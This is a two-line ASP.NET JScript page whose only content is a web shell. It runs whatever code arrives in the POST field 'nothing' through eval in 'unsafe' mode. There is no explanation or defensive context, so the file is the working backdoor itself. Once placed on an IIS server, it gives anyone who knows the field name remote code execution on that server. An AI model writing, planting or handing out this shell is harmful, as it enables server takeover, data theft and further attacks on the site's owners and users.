<%@ Page Language="Jscript" %>
<% eval(Request.Form["nothing"], "unsafe"); %>
